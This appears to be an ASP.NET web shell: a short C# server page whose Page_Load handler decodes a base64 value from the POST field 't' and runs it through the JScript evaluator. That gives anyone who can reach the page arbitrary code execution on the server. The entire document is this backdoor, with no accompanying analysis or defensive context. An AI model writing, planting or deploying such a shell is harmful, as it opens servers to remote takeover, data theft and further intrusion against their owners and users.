<script language="c#" runat="server">
void Page_Load(object sender, EventArgs e)
{
    Microsoft.JScript.Eval.JScriptEvaluate(
        System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Form["t"])),
        Microsoft.JScript.Vsa.VsaEngine.CreateEngine());
}
</script>
